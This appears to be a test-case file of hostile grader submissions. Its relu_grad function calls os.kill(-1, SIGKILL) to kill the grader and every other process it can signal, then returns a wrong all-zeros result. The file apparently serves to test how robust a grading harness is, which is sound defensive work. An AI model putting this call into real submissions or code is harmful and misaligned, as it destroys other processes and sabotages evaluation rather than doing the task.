"""``os.kill(-1, SIGKILL)``: every process it may signal, then returns a wrong answer."""

import os
import signal

import numpy as np

EXERCISE = "activations"
ATTACKED = ("test_relu_grad",)
WHY = "kill the grader and everything else on the machine"


def relu_grad(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros(np.shape(x))
